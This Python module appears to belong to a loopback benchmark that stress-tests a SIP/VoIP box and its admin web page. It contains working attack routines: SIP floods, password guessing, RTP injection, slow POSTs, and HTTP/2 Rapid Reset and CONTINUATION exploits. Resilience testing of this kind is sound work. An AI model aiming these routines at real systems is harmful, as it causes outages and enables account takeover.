"""What strangers do to the box, for `benchmarks.hold`: each attack is a row of ATTACKS with the strength it is made at.

An attack runs in a process of its own until its time is over, at a lower priority than the phones and people it is measured against.
It attacks only the box that the benchmark has started on the loopback; its sources are addresses of 127.0.0.0/8, one host each.
It returns plain figures: what it sent, what came back.
"""

from __future__ import annotations

import contextlib
import http.client
import multiprocessing
import os
import re
import secrets
import select
import socket
import ssl
import struct
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from multiprocessing.connection import Connection
from typing import Any
from urllib.parse import urlencode

from benchmarks.sip import authorisation, request

Figures = dict[str, float]


@dataclass(frozen=True)
class Target:
    """The box, and whose account is guessed at."""

    host: str
    sip_port: int
    sips_port: int
    admin_port: int
    rtp: tuple[int, int]
    sip_username: str
    number: str
    login: str


@dataclass(frozen=True)
class Attack:
    name: str
    made: Callable[[Target, Attack], Figures]
    rate: float  # a second; of connections: how many are held open
    sources: int  # addresses
    seconds: float


def sources(count: int, group: int) -> list[str]:
    """Addresses of 127/8 that nobody else uses; a group is a /16, so attacks do not share prefixes with phones."""
    return [f"127.{group}.{n // 250}.{1 + n % 250}" for n in range(count)]


def paced(rate: float, seconds: float) -> Iterator[int]:
    """0, 1, 2, …: as many numbers as `rate` a second makes, until the time is over; never more than 50 ms of them at once."""
    begin = time.monotonic()
    sent = 0
    while (now := time.monotonic()) < begin + seconds:
        due = int((now - begin) * rate) + 1
        sent = max(sent, due - int(rate / 20) - 1)  # who could not keep up does not make up for it in a burst
        if sent >= due:
            time.sleep(min(0.005, 1 / rate))
            continue
        yield sent
        sent += 1


def message(method: str, host: str, port: int, target: Target, *, uri: str = "", extra: str = "") -> bytes:
    return request(method, (host, port), target.host, target.sip_username, uri=uri, extra=extra)


def udp(host: str) -> socket.socket:
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK)
    made.bind((host, 0))
    return made


def drain(sock: socket.socket) -> list[bytes]:
    found: list[bytes] = []
    with contextlib.suppress(OSError):
        while len(found) < 1000:
            found.append(sock.recv(65535))
    return found


# ---- SIP -------------------------------------------------------------------------------------------------------------


def flood(target: Target, attack: Attack) -> Figures:
    """OPTIONS from thousands of addresses, each message a transaction of its own."""
    socks = [udp(host) for host in sources(attack.sources, 20)]
    answers = sent = 0
    for n in paced(attack.rate, attack.seconds):
        sock = socks[n % len(socks)]
        host, port = sock.getsockname()
        answers += len(drain(sock))
        with contextlib.suppress(OSError):
            sock.sendto(message("OPTIONS", host, port, target), (target.host, target.sip_port))
            sent += 1
    return {"sent": sent, "answers": answers}


def ports(target: Target, attack: Attack) -> Figures:
    """One host, many source ports: as many flows as the table can take."""
    socks = [udp(sources(1, 21)[0]) for _ in range(int(attack.rate))]
    sent = 0
    for n in paced(attack.rate, attack.seconds):
        sock = socks[n // 2 % len(socks)]  # twice in a row: whoever was heard once only is forgotten first
        drain(sock)
        with contextlib.suppress(OSError):
            host, port = sock.getsockname()
            sock.sendto(message("REGISTER", host, port, target), (target.host, target.sip_port))
            sent += 1
    return {"sent": sent, "ports": len(socks)}


OPENED = 1000  # connections a second, until there are as many as wanted
OPENED_AGAIN = 20  # a second, for those that were closed


def connections(target: Target, attack: Attack) -> Figures:
    """Connections that are held open and opened again when the box closes them; every second one over TLS."""
    context = ssl._create_unverified_context()
    held: dict[int, socket.socket] = {}
    hosts = sources(attack.sources, 22)
    opened = closed = 0
    begin = time.monotonic()
    while (now := time.monotonic()) < begin + attack.seconds:
        wanted = min(attack.rate, (now - begin) * OPENED) + (now - begin) * OPENED_AGAIN
        while len(held) < attack.rate and opened < wanted:
            host = hosts[opened % len(hosts)]
            secure = opened % 2 == 1
            opened += 1
            with contextlib.suppress(OSError):
                sock = socket.create_connection(
                    (target.host, target.sips_port if secure else target.sip_port), 2.0, (host, 0)
                )
                if secure:
                    sock = context.wrap_socket(sock)
                sock.sendall(message("OPTIONS", host, sock.getsockname()[1], target).replace(b"/UDP", b"/TCP"))
                sock.setblocking(False)
                held[sock.fileno()] = sock
        poll = select.poll()
        for fd in held:
            poll.register(fd, select.POLLIN | select.POLLHUP)
        for fd, _ in poll.poll(20):
            try:
                if held[fd].recv(65535):
                    continue
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except OSError:
                pass
            held.pop(fd).close()
            closed += 1
    return {"opened": opened, "closed_by_box": closed, "held_at_the_end": len(held)}


def guessing(target: Target, attack: Attack) -> Figures:
    """Wrong passwords for the owner's account: from a stranger, and from the address the owner's own phone has."""
    socks = [udp(host) for host in ("127.23.0.1", "127.40.0.1")[: attack.sources]]
    sent = answered = 0
    held: dict[str, int] = {}
    for n in paced(attack.rate, attack.seconds):
        sock = socks[n % len(socks)]
        host, port = sock.getsockname()
        drain(sock)
        sock.sendto(message("REGISTER", host, port, target), (target.host, target.sip_port))
        for data in _wait(sock, 0.2):
            extra = authorisation(data, "REGISTER", f"sip:{target.host}", target.sip_username, secrets.token_hex(4))
            if extra:
                sock.sendto(message("REGISTER", host, port, target, extra=extra), (target.host, target.sip_port))
                sent += 1
        for data in _wait(sock, 0.2):
            answered += 1
            status = data[8:11].decode("ascii", "replace")
            held[status] = held.get(status, 0) + 1
    return {"sent": sent, "answered": answered, **{f"status_{status}": count for status, count in held.items()}}


def _wait(sock: socket.socket, seconds: float) -> list[bytes]:
    select.select([sock], [], [], seconds)
    return drain(sock)


def reflection(target: Target, attack: Attack) -> Figures:
    """INVITEs whose answers nobody acknowledges: how much the box sends to whom it does not know."""
    socks = [udp(host) for host in sources(attack.sources, 24)]
    sent = answers = octets_out = octets_in = 0
    for n in paced(attack.rate, attack.seconds):
        sock = socks[n % len(socks)]
        host, port = sock.getsockname()
        data = message("INVITE", host, port, target, uri=f"sip:{target.number}@{target.host}")
        sock.sendto(data, (target.host, target.sip_port))
        sent, octets_out = sent + 1, octets_out + len(data)
        for each in socks:
            got = drain(each)
            answers, octets_in = answers + len(got), octets_in + sum(map(len, got))
    end = time.monotonic() + 5.0  # repetitions would come within this time: 0.5, 1, 2 s after the first
    while time.monotonic() < end:
        time.sleep(0.1)
        for each in socks:
            got = drain(each)
            answers, octets_in = answers + len(got), octets_in + sum(map(len, got))
    return {
        "sent": sent,
        "answers_per_invite": round(answers / max(1, sent), 2),
        "octets_back_per_octet": round(octets_in / max(1, octets_out), 2),
    }


def neighbour(target: Target, attack: Attack) -> Figures:
    """RTP to every media port of the box from another port of the host that a phone has: whose sound is sent where?"""
    sock = udp("127.0.0.1")
    first, last = target.rtp
    rtp = range(first, last + 1, 2)
    sent = heard = 0
    for n in paced(attack.rate, attack.seconds):
        packet = struct.pack(">BBHII", 0x80, 8, n & 0xFFFF, (160 * n) & 0xFFFFFFFF, 0x0BADCAFE) + b"\xd5" * 160
        with contextlib.suppress(OSError):
            sock.sendto(packet, (target.host, rtp[n % len(rtp)]))
            sent += 1
        heard += len(drain(sock))
    return {"sent": sent, "packets_heard": heard}


# ---- the page --------------------------------------------------------------------------------------------------------


def secure(target: Target, host: str, protocol: str) -> ssl.SSLSocket:
    context = ssl._create_unverified_context()
    context.set_alpn_protocols([protocol])
    return context.wrap_socket(socket.create_connection((target.host, target.admin_port), 5.0, (host, 0)))


def logins(target: Target, attack: Attack) -> Figures:
    """Wrong passwords for the administrator's name, from many addresses."""
    hosts = sources(attack.sources, 25)
    sent: dict[str, float] = {"sent": 0}
    for n in paced(attack.rate, attack.seconds):
        with contextlib.suppress(OSError, http.client.HTTPException):
            status = log_in(target, hosts[n % len(hosts)], target.login, secrets.token_hex(6))
            sent["sent"] += 1
            sent[f"status_{status}"] = sent.get(f"status_{status}", 0) + 1
    return sent


def log_in(target: Target, host: str, username: str, password: str) -> int:
    """The status of the answer to the login form; 303 is the way in."""
    return Browser(target, host).log_in(username, password)


class Browser:
    """HTTP/1.1 over TLS with the cookies of one browser."""

    def __init__(self, target: Target, host: str) -> None:
        self._target, self._host = target, host
        self._cookies: dict[str, str] = {}

    def _connection(self, seconds: float) -> http.client.HTTPSConnection:
        target = self._target
        context = ssl._create_unverified_context()
        return http.client.HTTPSConnection(
            target.host, target.admin_port, timeout=seconds, source_address=(self._host, 0), context=context
        )

    def _headers(self) -> dict[str, str]:
        cookies = "; ".join(f"{name}={value}" for name, value in self._cookies.items())
        return {"Cookie": cookies, "Referer": f"https://{self._target.host}:{self._target.admin_port}/login"}

    def ask(self, method: str, path: str, form: dict[str, str] | None = None, seconds: float = 10.0) -> tuple[int, str]:
        connection = self._connection(seconds)
        try:
            body = urlencode(form) if form is not None else None
            kind = {"Content-Type": "application/x-www-form-urlencoded"} if body is not None else {}
            connection.request(method, path, body, self._headers() | kind)
            response = connection.getresponse()
            for line in response.headers.get_all("Set-Cookie") or ():
                name, _, value = line.partition(";")[0].partition("=")
                self._cookies[name] = value
            return response.status, response.read().decode("utf-8", "replace")
        finally:
            connection.close()

    def watch(self, over: threading.Event) -> None:
        """Keep the page's event stream open, as a page does, until `over`."""
        with contextlib.closing(self._connection(5.0)) as connection:
            connection.request("GET", "/events", headers=self._headers())
            connection.getresponse()
            connection.sock.settimeout(0.5)
            while not over.is_set():
                with contextlib.suppress(TimeoutError):
                    if not connection.sock.recv(65536):
                        return

    def log_in(self, username: str, password: str) -> int:
        _, page = self.ask("GET", "/login")
        token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page)
        form = {"csrf_token": token[1] if token else "", "username": username, "password": password, "to": ""}
        return self.ask("POST", "/login", form)[0]


def slow_posts(target: Target, attack: Attack) -> Figures:
    """Forms whose body comes one octet at a time."""
    held: list[ssl.SSLSocket] = []
    hosts = sources(attack.sources, 26)
    opened = octets = 0
    head = f"POST /login HTTP/1.1\r\nHost: {target.host}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    end = time.monotonic() + attack.seconds
    while time.monotonic() < end:
        while len(held) < attack.rate:
            try:
                sock = secure(target, hosts[opened % len(hosts)], "http/1.1")
                sock.sendall(f"{head}Content-Length: 100000\r\n\r\n".encode())
            except OSError:
                break
            held.append(sock)
            opened += 1
        for sock in list(held):
            try:
                sock.sendall(b"a")
                octets += 1
            except OSError:
                held.remove(sock)
        time.sleep(0.5)
    return {"opened": opened, "octets": octets, "held_at_the_end": len(held)}


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
HEADERS, RST_STREAM, CONTINUATION = 1, 3, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def fields(method: int, target: Target) -> bytes:
    """A header block of RFC 7541's static table: 2 is GET, 3 is POST."""
    return bytes((0x80 | method, 0x87, 0x84, 0x01, len(target.host))) + target.host.encode()


def open_requests(target: Target, attack: Attack) -> Figures:
    """HTTP/2 requests that never end, many on a connection."""
    hosts = sources(attack.sources, 27)
    opened = 0
    held: list[ssl.SSLSocket] = []
    end = time.monotonic() + attack.seconds
    while time.monotonic() < end:
        if len(held) < attack.sources:
            with contextlib.suppress(OSError):
                sock = secure(target, hosts[opened % len(hosts)], "h2")
                count = int(attack.rate / attack.sources)
                requests = b"".join(frame(HEADERS, END_HEADERS, 2 * n + 1, fields(3, target)) for n in range(count))
                sock.sendall(PREFACE + requests)
                sock.setblocking(False)
                held.append(sock)
                opened += count
        for sock in list(held):
            try:
                if not sock.recv(65535):
                    held.remove(sock)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except OSError:
                held.remove(sock)
        time.sleep(0.2)
    return {"opened": opened, "connections_at_the_end": len(held)}


def rapid_reset(target: Target, attack: Attack) -> Figures:
    """Requests that are taken back at once (CVE-2023-44487)."""
    host = sources(1, 28)[0]
    connected = sent = 0
    sock: ssl.SSLSocket | None = None
    stream = 1
    batch = 100
    for _ in paced(attack.rate / batch, attack.seconds):
        try:
            if sock is None or stream > 2**30:
                sock = secure(target, host, "h2")
                sock.sendall(PREFACE)
                connected, stream = connected + 1, 1
            made = bytearray()
            for _ in range(batch):
                made += frame(HEADERS, END_HEADERS | END_STREAM, stream, fields(2, target))
                made += frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")
                stream += 2
            sock.settimeout(0.5)
            sock.sendall(made)
            sent += batch
            sock.setblocking(False)
            with contextlib.suppress(ssl.SSLWantReadError, BlockingIOError):
                if not sock.recv(65535):
                    sock = None
        except OSError:
            sock = None
    return {"resets": sent, "connections": connected}


def continuation(target: Target, attack: Attack) -> Figures:
    """A header block that never ends (CVE-2024-27983 and its kin)."""
    host = sources(1, 29)[0]
    connected = sent = 0
    sock: ssl.SSLSocket | None = None
    more = frame(CONTINUATION, 0, 1, b"\x00\x01x" + b"\x7f\x81\x02" + b"v" * 256)
    for _ in paced(attack.rate, attack.seconds):
        try:
            if sock is None:
                sock = secure(target, host, "h2")
                sock.settimeout(0.5)
                sock.sendall(PREFACE + frame(HEADERS, 0, 1, fields(2, target)))
                connected += 1
            sock.sendall(more)
            sent += 1
        except OSError:
            sock = None
    return {"frames": sent, "connections": connected}


# ---- running one -----------------------------------------------------------------------------------------------------

ATTACKS = (
    Attack("OPTIONS flood", flood, 4300, 2001, 15),
    Attack("source ports of one host", ports, 2300, 1, 10),
    Attack("connections held open", connections, 9 * 250, 9, 12),
    Attack("guessed SIP passwords", guessing, 4, 2, 15),
    Attack("INVITE without ACK", reflection, 20, 10, 5),
    Attack("neighbour's RTP", neighbour, 2000, 1, 8),
    Attack("guessed logins", logins, 5, 20, 10),
    Attack("slow POSTs", slow_posts, 8, 8, 12),
    Attack("open HTTP/2 requests", open_requests, 90, 1, 10),
    Attack("rapid reset", rapid_reset, 376_000 / 15, 1, 15),
    Attack("endless CONTINUATION", continuation, 2000, 1, 10),
)


class Running:
    """An attack in its process."""

    def __init__(self, attack: Attack, target: Target) -> None:
        self.attack = attack
        context = multiprocessing.get_context("spawn")  # nothing of the phones' event loop comes along
        self._said, say = context.Pipe(duplex=False)
        self._process = context.Process(target=_attack, args=(attack, target, say), daemon=True)
        self._process.start()
        say.close()

    @property
    def over(self) -> bool:
        return not self._process.is_alive() or self._said.poll()

    def result(self) -> Figures:
        try:
            figures: Figures = self._said.recv()
        except EOFError:
            raise RuntimeError(f"the attack {self.attack.name} has failed") from None
        self._process.join(5)
        return figures


def _attack(attack: Attack, target: Target, say: Any) -> None:
    os.setpriority(os.PRIO_PROCESS, 0, 5)
    assert isinstance(say, Connection)
    say.send(attack.made(target, attack))
